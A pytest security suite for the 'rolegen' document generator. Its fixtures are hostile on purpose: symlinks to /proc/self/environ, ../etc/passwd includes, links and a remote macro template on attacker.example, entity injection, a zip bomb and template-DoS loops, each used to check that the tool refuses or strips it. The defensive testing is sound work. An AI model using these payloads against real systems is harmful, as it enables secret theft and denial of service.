"""Issue 18: templates, masters, references and outputs from a pull request cannot leak secrets, hang
the build, or put outside links, macros or corrupt XML into what rolegen writes."""

from __future__ import annotations

import contextlib
import io
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from rolegen.content.templates import DEFAULTS_DIR
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parents[1]))
from conftest import docx_text, needs_brand_fonts, pptx_text  # noqa: E402
from packages import (
    MASTER,
    OUTSIDE,
    R,
    booby_trapped_master,
    png_header,
    read_parts,
    relate,  # noqa: E402
    write_parts,
)

ROLEGEN = Path(sys.executable).parent / "rolegen"


def rolegen(*args: str, env: dict | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    """Run the installed rolegen in the current folder (the project)."""
    return subprocess.run(
        [str(ROLEGEN), *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "MY_CI_SECRET": "s3cr3t-token", **(env or {})},
    )


def one_error(result: subprocess.CompletedProcess) -> str:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    return lines[0]


def external_targets(package: Path) -> list[str]:
    with zipfile.ZipFile(package) as archive:
        return [
            t
            for name in archive.namelist()
            if name.endswith(".rels")
            for t in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', archive.read(name).decode())
        ]


# -- 1. secrets: links out of the project are never followed --------------------------------------


def test_an_included_link_to_the_environment_is_refused(project):
    (project / "templates/env.txt").symlink_to("/proc/self/environ")
    deck = project / "templates/deck.md.j2"
    deck.write_text(
        '{% include "env.txt" %}\n' + (DEFAULTS_DIR / "deck.md.j2").read_text(encoding="utf-8"), encoding="utf-8"
    )
    for args in (("deck", "--brand", "acme"), ("build", "-j1")):
        assert one_error(rolegen(*args)) == (
            "Error: templates/env.txt: file is a link that leads outside 'project'; put a copy inside instead"
        )
    assert not (project / "output").exists()


@pytest.mark.parametrize("name", ["templates/deck.md.j2", "templates/brands/acme/deck.md.j2", "templates/i18n/en.yaml"])
def test_a_template_or_translation_that_is_itself_a_link_out_is_refused(project, name):
    path = project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to("/proc/self/environ")
    result = rolegen("deck", "--brand", "acme")
    assert one_error(result) == f"Error: {name}: file is a link that leads outside 'project'; put a copy inside instead"
    assert "s3cr3t" not in result.stdout + result.stderr


def test_a_fifo_template_fails_at_once_instead_of_hanging(project):
    path = project / "templates/deck.md.j2"
    os.mkfifo(path)
    assert (
        one_error(rolegen("deck", "--brand", "acme", timeout=60))
        == "Error: templates/deck.md.j2: file is not a regular file (a folder, FIFO or device?)"
    )


# -- 2, 8. masters and references are cleaned ----------------------------------------------------


@needs_brand_fonts
def test_a_booby_trapped_master_gives_a_clean_deck_with_warnings(project):
    booby_trapped_master(project / "templates/brands/acme/deck.pptx")
    result = rolegen("deck", "--brand", "acme")
    assert result.returncode == 0, result.stderr
    assert (
        "warning: master 'deck.pptx': dropped 3 link(s) to outside files (http://attacker.example/track.png, "
        "file:///etc/passwd, \\\\attacker.example\\share\\x.png)"
    ) in result.stderr
    deck = project / "output/acme/ceo-vs-coo.pptx"
    assert external_targets(deck) == []
    with zipfile.ZipFile(deck) as archive:
        names = " ".join(archive.namelist()).lower()
        types = archive.read("[Content_Types].xml").decode()
        master = archive.read("ppt/slideMasters/slideMaster1.xml").decode()
    assert not any(word in names for word in ("vbaproject", "embeddings", "activex", "customxml"))
    assert "macroEnabled" not in types and "vbaProject" not in types
    assert "oleObj" not in master
    from pptx import Presentation

    assert Presentation(str(deck)).slides[0].shapes.title.text_frame.text
    # LibreOffice opens what is left of the master, and draws every slide.
    from rolegen.render.preview import to_pdf

    pdf = to_pdf({"deck": deck}, project / "pdf")["deck"]
    pages = re.search(r"Pages:\s+(\d+)", subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout)
    assert int(pages.group(1)) == len(Presentation(str(deck)).slides)


@needs_brand_fonts
def test_strict_refuses_a_master_with_outside_links(project):
    booby_trapped_master(project / "templates/brands/acme/deck.pptx")
    assert one_error(rolegen("deck", "--brand", "acme", "--strict")).startswith(
        "Error: templates/brands/acme/deck.pptx: master 'deck.pptx' links to 3 outside file(s)"
    )


def _reference(project: Path) -> tuple[Path, dict[str, bytes]]:
    from docx import Document

    data = io.BytesIO()
    Document().save(data)
    path = project / "templates/brands/acme/handout.docx"
    path.write_bytes(data.getvalue())
    return path, read_parts(path)


def test_a_remote_template_and_custom_xml_are_stripped_from_references(project):
    path, parts = _reference(project)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1
    )
    relate(
        parts,
        "word/_rels/document.xml.rels",
        "rIdT",
        f"{R}/attachedTemplate",
        "http://attacker.example/evil.dotm",
        external=True,
    )
    write_parts(path, parts)
    result = rolegen("handout", "--brand", "acme")
    assert result.returncode == 0, result.stderr
    handout = project / "output/acme/ceo-vs-coo.docx"
    assert external_targets(handout) == []
    with zipfile.ZipFile(handout) as archive:
        assert not any(b"attachedTemplate" in archive.read(n) for n in archive.namelist())
        assert not any(n.startswith("customXml/") for n in archive.namelist())


def test_no_output_of_a_build_holds_an_outside_link(project):
    booby_trapped_master(project / "templates/brands/acme/deck.pptx")
    assert rolegen("build", "-j1").returncode == 0
    outputs = sorted((project / "output").rglob("*.pptx")) + sorted((project / "output").rglob("*.docx"))
    assert outputs and all(external_targets(path) == [] for path in outputs)


# -- 4, 5. damaged masters and references: one line naming file and part --------------------------

_MASTER_PART = "ppt/slideMasters/slideMaster1.xml"
_THEME = "ppt/theme/theme1.xml"


def _doctype(parts):
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>' + parts[_MASTER_PART].split(b"?>", 1)[1]


def _no_theme(parts):
    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    parts[rels] = re.sub(rb'<Relationship [^>]*/theme"[^>]*/>', b"", parts[rels])


def _huge_background(pixels):
    def change(parts):
        parts["ppt/media/image9.png"] = png_header(*pixels)
        relate(parts, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "rIdBg", f"{R}/image", "../media/image9.png")

    return change


DAMAGED = {
    "doctype-in-master": (
        lambda p: p.update({_MASTER_PART: _doctype(p)}),
        "part 'ppt/slideMasters/slideMaster1.xml' holds a DOCTYPE (a DTD or entities), which Office "
        "files never hold; refusing it",
    ),
    "entities-in-theme": (
        lambda p: p.update({_THEME: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><t>&x;</t>'}),
        "part 'ppt/theme/theme1.xml' holds a DOCTYPE (a DTD or entities), which Office files never hold; refusing it",
    ),
    "malformed-theme": (
        lambda p: p.update({_THEME: b"<a:theme xmlns:a='x'><open></a:theme>"}),
        "part 'ppt/theme/theme1.xml' is not well-formed XML",
    ),
    "master-without-theme": (_no_theme, "part 'ppt/slideMasters/slideMaster1.xml' has no theme"),
    "layout-missing": (
        lambda p: p.pop("ppt/slideLayouts/slideLayout2.xml"),
        "part 'ppt/slideMasters/slideMaster1.xml' names part 'ppt/slideLayouts/slideLayout2.xml' "
        "(rId2), which is missing",
    ),
    "400-megapixel-background": (
        _huge_background((20000, 20000)),
        "image 'ppt/media/image9.png' is over the 40 megapixel limit; scale it down",
    ),
    "169-megapixel-background": (
        _huge_background((13000, 13000)),
        "image 'ppt/media/image9.png' is 13,000 x 13,000 pixels, over the 40 megapixel limit; scale it down",
    ),
}


@pytest.mark.parametrize("name", DAMAGED, ids=list(DAMAGED))
def test_a_damaged_master_fails_with_one_line_naming_the_part(project, name):
    change, expected = DAMAGED[name]
    parts = read_parts(MASTER)
    change(parts)
    write_parts(project / "templates/brands/acme/deck.pptx", parts)
    for args in (("deck", "--brand", "acme"), ("validate",)):
        result = rolegen(*args)
        assert result.returncode == 1 and "Traceback" not in result.stderr
        assert "DecompressionBomb" not in result.stderr and "internal error" not in result.stderr
        assert f"templates/brands/acme/deck.pptx: master 'deck.pptx': {expected}" in result.stderr


def test_a_reference_without_section_properties_fails_naming_the_part(project):
    path, parts = _reference(project)
    parts["word/document.xml"] = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", parts["word/document.xml"], flags=re.S)
    write_parts(path, parts)
    assert one_error(rolegen("handout", "--brand", "acme")) == (
        "Error: templates/brands/acme/handout.docx: reference 'handout.docx': part 'word/document.xml' has no "
        "section properties (w:sectPr); save it again from Word"
    )


# -- 3. templates run under limits ----------------------------------------------------------------

HANGS = {
    "nested-range": (
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "template ran longer than 2 s",
    ),
    "megabyte-strings": (
        "{% for i in range(100000) %}{{ 'y' * 100000 }}{% endfor %}",
        "template writes over 5,000,000 characters; refusing it",
    ),
    "doubling": (
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "template tried something unsafe: '~' would make 8,388,608 characters",
    ),
    "lipsum": ("{{ lipsum(10**6) }}", "template tried something unsafe: 'lipsum' was given 1,000,000"),
    "center": ('{{ "x"|center(2*10**9) }}', "template tried something unsafe: 'center' was given 2,000,000,000"),
    "percent-width": ('{{ "%*d" % (2*10**9, 1) }}', "template tried something unsafe: a format width over 10,000"),
    "format-width": ('{{ "{:>999999999}".format(1) }}', "template tried something unsafe: a format width over 10,000"),
}


@pytest.mark.parametrize("name", HANGS, ids=list(HANGS))
def test_a_template_that_would_hang_fails_naming_template_and_line(project, name):
    template, expected = HANGS[name]
    (project / "templates/deck.md.j2").write_text(f"---\ntitle: x\n---\n{template}\n", encoding="utf-8")
    started = time.monotonic()
    result = rolegen("deck", "--brand", "acme", env={"ROLEGEN_TEMPLATE_SECONDS": "2"}, timeout=120)
    assert one_error(result).startswith(f"Error: templates/deck.md.j2:4: {expected}")
    assert time.monotonic() - started < 60


# -- 6, 8, 9. outputs, manifest, check, workers, temp files, Ctrl-C --------------------------------


def test_a_linked_output_folder_is_not_written_through(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "manifest.json").write_text("keep", encoding="utf-8")
    (project / "output").symlink_to(elsewhere)
    assert one_error(rolegen("build", "-j1")) == (
        "Error: output: 'output' is a link (or not a folder); rolegen writes only into the project's real output folder"
    )
    assert (elsewhere / "manifest.json").read_text(encoding="utf-8") == "keep"
    (project / "output").unlink()
    (project / "output").mkdir()
    (project / "output/acme").symlink_to(elsewhere)
    assert one_error(rolegen("deck", "--brand", "acme")).startswith("Error: output/acme: 'output/acme' is a link")
    assert sorted(p.name for p in elsewhere.iterdir()) == ["manifest.json"]


@pytest.mark.parametrize("kind", ["dev-zero", "deep", "huge"])
def test_a_hostile_manifest_only_costs_a_rebuild(project, kind):
    assert rolegen("build", "-j1", "--format", "deck").returncode == 0
    manifest = project / "output/manifest.json"
    manifest.unlink()
    if kind == "dev-zero":
        manifest.symlink_to("/dev/zero")
    elif kind == "deep":
        manifest.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    else:
        with manifest.open("wb") as handle:
            handle.truncate(80 * 1024 * 1024)
    result = rolegen("build", "--check", "--format", "deck", timeout=60)
    assert result.returncode == 1 and "internal error" not in result.stderr
    assert "stale: output/acme/ceo-vs-coo.pptx" in result.stdout


def test_check_refuses_a_zip_bomb(project, tmp_path):
    bomb = tmp_path / "bomb.pptx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("ppt/slides/slide1.xml", b"\0" * (300 * 1024 * 1024))
    result = rolegen("check", str(bomb), timeout=120)
    assert one_error(result).endswith("(a zip bomb?); refusing it")


def test_stale_temp_files_are_removed_by_the_next_build(project):
    folder = project / "output/acme"
    folder.mkdir(parents=True)
    stale = [folder / f".ceo-vs-coo.pptx.{i}.tmp" for i in range(3)]
    for path in stale:
        path.write_bytes(b"half")
        os.utime(path, (time.time() - 3600,) * 2)
    assert rolegen("build", "-j1", "--format", "deck").returncode == 0
    assert not any(path.exists() for path in stale)


def _children(pid: int) -> set[int]:
    found = set()
    for task in Path(f"/proc/{pid}/task").iterdir():
        text = (task / "children").read_text().split()
        found.update(int(child) for child in text)
    return found


# Comparisons beside the project's one, so a build has many documents to make: however fast the
# machine, most are still to do when the first is done.
_EXTRA_COMPARISONS = 10
# Loop rounds a document's template spends before it writes anything: seconds of work in a worker,
# bounded (ROLEGEN_TEMPLATE_SECONDS gives it room), with a body Jinja cannot skip.
_SLOW_ROUNDS = 2_000_000


def _slow_build(project: Path, *extra: str) -> subprocess.Popen:
    """Start a build of 44 documents whose templates each loop for seconds, so workers are busy when a signal comes."""
    comparison = project / "content/comparisons/ceo-vs-coo.yaml"
    for number in range(_EXTRA_COMPARISONS):
        (comparison.parent / f"slow-{number}.yaml").write_bytes(comparison.read_bytes())
    slow = f"{{% set ns = namespace(n=0) %}}{{% for i in range({_SLOW_ROUNDS}) %}}{{% set ns.n = i %}}{{% endfor %}}"
    for name in ("deck.md.j2", "handout.md.j2"):
        (project / "templates" / name).write_text(
            slow + (DEFAULTS_DIR / name).read_text(encoding="utf-8"), encoding="utf-8"
        )
    return subprocess.Popen(
        [str(ROLEGEN), "build", "--jobs", "2", "--force", *extra],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "ROLEGEN_TEMPLATE_SECONDS": "120"},
    )


def _wait_for_workers(process: subprocess.Popen) -> set[int]:
    for _ in range(600):
        workers = _children(process.pid)
        if len(workers) >= 2:
            return workers
        time.sleep(0.1)
    raise AssertionError("the build started no workers")


def _gone(pids: set[int], seconds: float = 20) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        alive = {
            pid
            for pid in pids
            if Path(f"/proc/{pid}").exists() and "zombie" not in Path(f"/proc/{pid}/status").read_text().lower()
        }
        if not alive:
            return True
        time.sleep(0.2)
    return False


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
def test_workers_die_with_their_parent(project, sig):
    process = _slow_build(project)
    workers = _wait_for_workers(process)
    process.send_signal(sig)
    process.wait(timeout=30)
    assert _gone(workers)


def test_ctrl_c_during_a_parallel_build_exits_130_and_leaves_no_temp_files(project):
    process = _slow_build(project)
    workers = _wait_for_workers(process)
    first = process.stdout.readline()  # the first of 44 documents is done: the rest are being made
    assert first.startswith("[1/"), first + process.stderr.read()
    assert process.poll() is None, "the build ended before the signal: it is not slow enough to prove Ctrl-C"
    process.send_signal(signal.SIGINT)
    for worker in workers:  # a terminal sends Ctrl-C to the whole process group
        with contextlib.suppress(ProcessLookupError):  # the parent may have stopped it already
            os.kill(worker, signal.SIGINT)
    assert process.wait(timeout=60) == 130
    assert _gone(workers)
    assert not list(project.rglob("*.tmp"))


def test_a_worker_killed_from_outside_fails_the_build_with_one_line_and_writes_nothing(project):
    # What the out-of-memory killer does: one worker gone, the build's process and the other left.
    process = _slow_build(project)
    workers = _wait_for_workers(process)
    first = process.stdout.readline()
    assert first.startswith("[1/"), first + process.stderr.read()
    assert process.poll() is None, "the build ended before the kill: it is not slow enough to prove it"
    os.kill(min(workers), signal.SIGKILL)

    assert process.wait(timeout=60) == 1
    assert process.stderr.read().splitlines()[-1] == (
        "Error: a worker process ended before its documents were drawn (killed from outside, or out of "
        "memory?); nothing was written"
    )
    assert _gone(workers)
    output = project / "output"
    assert not output.exists() or not [path for path in output.rglob("*") if path.is_file()]


# -- 7, 9. validate passes only what renders -------------------------------------------------------


def test_an_escaped_control_character_fails_validate_and_handout_alike(project):
    role = project / "content/roles/ceo.md"
    role.write_text(
        re.sub(r"(?m)^title: .*$", lambda _: 'title: "Chief\\x0bExecutive"', role.read_text(encoding="utf-8")),
        encoding="utf-8",
    )
    for args in (("validate",), ("handout", "--brand", "acme")):
        result = rolegen(*args)
        assert result.returncode == 1 and "internal error" not in result.stderr
        assert "content/roles/ceo.md:2: 'title' contains the control character U+000B; delete it" in result.stderr


def test_a_fifo_role_fails_validate_at_once(project):
    os.mkfifo(project / "content/roles/ghost.md")
    result = rolegen("validate", timeout=60)
    assert "content/roles/ghost.md: file is not a regular file (a folder, FIFO or device?)" in result.stderr


def test_sixty_thousand_keys_are_one_problem(project):
    role = project / "content/roles/ceo.md"
    text = role.read_text(encoding="utf-8")
    role.write_text(text.replace("---\n", "---\n" + "".join(f"k{i}: 1\n" for i in range(60_000)), 1), encoding="utf-8")
    result = rolegen("validate")
    assert "content/roles/ceo.md:2: 60,000 unknown keys in front matter (the first is 'k0'" in result.stderr


def test_a_list_nested_too_deeply_is_refused_not_shrunk(project):
    role = project / "content/roles/ceo.md"
    nested = "".join("  " * i + f"- item {i}\n" for i in range(19))
    role.write_text(role.read_text(encoding="utf-8") + "\n" + nested + "\nAfter the list.\n", encoding="utf-8")
    result = rolegen("validate")
    assert (
        "Markdown is nested too deeply (lists or quotes more than 8 levels inside each other); flatten it"
        in result.stderr
    )


def test_an_impossible_date_fails_build_with_a_message(project):
    comparison = project / "content/comparisons/ceo-vs-coo.yaml"
    comparison.write_text(
        re.sub(r"(?m)^updated: .*$", "updated: 2026-13-45", comparison.read_text(encoding="utf-8")), encoding="utf-8"
    )
    assert "invalid YAML value '2026-13-45': month must be in 1..12" in one_error(rolegen("build", "-j1"))


@pytest.mark.parametrize(
    "command",
    [["deck", "--brand", "acme"], ["build", "-j1"], ["build", "--check"]],
    ids=["deck", "build", "build-check"],
)
@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_a_folder_or_fifo_named_like_a_content_file_is_named(project, kind, command):
    # build fingerprints the kit (its '/'-rooted file names) before loading it: that read is guarded too.
    path = project / "templates/brands/acme/_brand.yml"
    path.unlink()
    path.mkdir() if kind == "folder" else os.mkfifo(path)
    assert (
        one_error(rolegen(*command, timeout=60))
        == "Error: templates/brands/acme/_brand.yml: file is not a regular file (a folder, FIFO or device?)"
    )


# -- fuzz: mutated masters never give a traceback, hang or outside link ----------------------------

_PARTS = sorted(read_parts(MASTER))
_MUTATIONS = st.lists(
    st.tuples(
        st.sampled_from(["drop", "truncate", "doctype", "external", "garbage", "bad-type", "dangling"]),
        st.sampled_from(_PARTS),
    ),
    min_size=1,
    max_size=3,
)


def _mutate(parts: dict[str, bytes], mutations) -> None:
    for action, name in mutations:
        if name not in parts:
            continue
        if action == "drop":
            del parts[name]
        elif action == "truncate":
            parts[name] = parts[name][: len(parts[name]) // 2]
        elif action == "doctype" and parts[name].startswith(b"<?xml"):
            parts[name] = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "x">]>' + parts[name].split(b"?>", 1)[1]
        elif action == "external" and name.endswith(".rels"):
            relate(parts, name, "rIdFuzz", f"{R}/image", OUTSIDE[2], external=True)
        elif action == "garbage":
            parts[name] = b"\x00\xff" * 20
        elif action == "bad-type":
            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
                b"presentationml.presentation.main+xml", b"presentationml.template.macroEnabled.main+xml"
            )
        elif action == "dangling" and name.endswith(".rels"):
            relate(parts, name, "rIdGone", f"{R}/slideLayout", "../slideLayouts/nowhere.xml")


@settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(_MUTATIONS)
def test_a_mutated_master_renders_cleanly_or_fails_with_one_line(project, mutations):
    from rolegen.cli.app import main

    parts = read_parts(MASTER)
    _mutate(parts, mutations)
    target = project / "output/fuzz.pptx"
    target.unlink(missing_ok=True)
    write_parts(project / "templates/brands/acme/deck.pptx", parts)
    stderr = io.StringIO()
    old, sys.stderr = sys.stderr, stderr
    try:
        with pytest.raises(SystemExit) as exit_:
            main(["-q", "deck", "--brand", "acme", "-o", str(target)])
    finally:
        sys.stderr = old
    errors = [line for line in stderr.getvalue().splitlines() if line.startswith("Error:")]
    assert "internal error" not in stderr.getvalue() and "Traceback" not in stderr.getvalue()
    if exit_.value.code == 0:
        assert external_targets(target) == []
        from pptx import Presentation

        assert len(Presentation(str(target)).slides) > 1
    else:
        assert exit_.value.code == 1 and len(errors) == 1, stderr.getvalue()


# -- what held in the attack round stays held -------------------------------------------------------


@pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd"])
def test_an_include_leaving_the_templates_is_refused(project, name):
    (project / "templates/deck.md.j2").write_text(f'{{% include "{name}" %}}\n', encoding="utf-8")
    result = rolegen("deck", "--brand", "acme")
    assert one_error(result).startswith("Error: templates/deck.md.j2")
    assert "root:" not in result.stdout + result.stderr


def _deck_in_process(project, capsys) -> tuple[int, list[str], Path]:
    """Run `deck` through main() and return exit code, error lines and the output path."""
    from rolegen.cli.app import main

    target = project / "output/acme/deck.pptx"
    with pytest.raises(SystemExit) as exit_:
        main(["-q", "deck", "--brand", "acme", "-o", str(target)])
    err = capsys.readouterr().err
    assert "Traceback" not in err and "internal error" not in err
    return exit_.value.code, [line for line in err.splitlines() if line.strip()], target


def _no_temps(folder: Path) -> list[str]:
    return [p.name for p in folder.rglob("*.tmp")]


@pytest.mark.parametrize(
    "error",
    [
        OSError(28, "No space left on device"),
        PermissionError(13, "Permission denied"),
        OSError(30, "Read-only file system"),
    ],
    ids=["ENOSPC", "EACCES", "EROFS"],
)
def test_a_full_or_read_only_disk_fails_with_one_line_and_keeps_the_old_output(project, capsys, monkeypatch, error):
    import tempfile

    code, _, target = _deck_in_process(project, capsys)
    assert code == 0
    before = target.read_bytes()
    # Root ignores chmod, so a full or read-only disk is simulated where rolegen writes.
    if error.errno == 28:
        monkeypatch.setattr(os, "fsync", lambda fd: (_ for _ in ()).throw(error))
    else:
        monkeypatch.setattr(tempfile, "mkstemp", lambda *a, **k: (_ for _ in ()).throw(error))
    (project / "content/roles/ceo.md").write_text(
        (project / "content/roles/ceo.md").read_text(encoding="utf-8") + "\nA changed line.\n", encoding="utf-8"
    )
    code, lines, _ = _deck_in_process(project, capsys)
    assert code == 1 and len(lines) == 1 and lines[0].startswith("Error: output/acme/deck.pptx"), lines
    assert error.strerror in lines[0]
    assert target.read_bytes() == before
    assert _no_temps(project / "output") == []


def _texts(folder: Path) -> dict[str, str]:
    """Return all text of each deck and handout under folder, by file name."""
    texts = {path.name: pptx_text(path) for path in folder.rglob("*.pptx")}
    texts.update({path.name: docx_text(path) for path in folder.rglob("*.docx")})
    return texts


def test_two_thousand_bullets_and_five_hundred_dimensions_reach_every_output(project):
    import yaml

    role = project / "content/roles/ceo.md"
    head, body = role.read_text(encoding="utf-8").split("focus:", 1)
    bullets = "".join(f"  - Bullet{n:04d} keeps its words.\n" for n in range(2000))
    role.write_text(
        head.replace("responsibilities:\n", "responsibilities:\n" + bullets, 1) + "focus:" + body, encoding="utf-8"
    )
    comparison = project / "content/comparisons/ceo-vs-coo.yaml"
    data = yaml.safe_load(comparison.read_text(encoding="utf-8"))
    data["dimensions"] = [
        {"name": f"Dim{n:03d}", "ceo": f"Ceo{n:03d} text.", "coo": f"Coo{n:03d} text."} for n in range(500)
    ]
    comparison.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    result = rolegen("build", "--jobs", "1", timeout=1200)
    assert result.returncode == 0, result.stderr
    texts = _texts(project / "output")
    assert texts, "no outputs"
    bullets = [f"Bullet{n:04d}" for n in range(2000)]
    dimensions = [w for n in range(500) for w in (f"Dim{n:03d}", f"Ceo{n:03d}", f"Coo{n:03d}")]
    for words in (bullets, dimensions):
        holders = [name for name, text in texts.items() if any(w in text for w in words)]
        assert {name.rsplit(".", 1)[1] for name in holders} == {"pptx", "docx"}, holders
        for name in holders:  # an output that shows some of these words shows all of them
            assert [w for w in words if w not in texts[name]] == [], name


@needs_brand_fonts
def test_a_plain_reference_gives_a_handout_without_warnings(project):
    _reference(project)
    result = rolegen("handout", "--brand", "acme")
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""


def test_custom_xml_holding_data_is_removed_with_a_warning(project):
    path, parts = _reference(project)
    parts["customXml/item1.xml"] = parts["customXml/item1.xml"].replace(
        b'StyleName="APA"/>', b'StyleName="APA"><b:Source><b:Tag>secret</b:Tag></b:Source></b:Sources>'
    )
    write_parts(path, parts)
    result = rolegen("handout", "--brand", "acme")
    assert result.returncode == 0, result.stderr
    assert "removed 3 part(s)" in result.stderr


def test_the_packaged_master_is_shipped_as_the_sanitiser_leaves_it():
    # So opening it as it is (render/master_plan.open_master) draws what cleaning it first would: the
    # same parts, in the same order (the cleaned zip's entry dates are the clock's; no reader sees them).
    import io
    import zipfile

    from rolegen.inputs import sanitize
    from rolegen.render.master_plan import DEFAULT_MASTER

    def parts(data: bytes) -> list[tuple[str, bytes]]:
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            return [(name, package.read(name)) for name in package.namelist()]

    cleaned = sanitize.clean(DEFAULT_MASTER, DEFAULT_MASTER.parent)
    assert (cleaned.external, cleaned.removed) == ((), ())
    assert parts(cleaned.data) == parts(DEFAULT_MASTER.read_bytes())
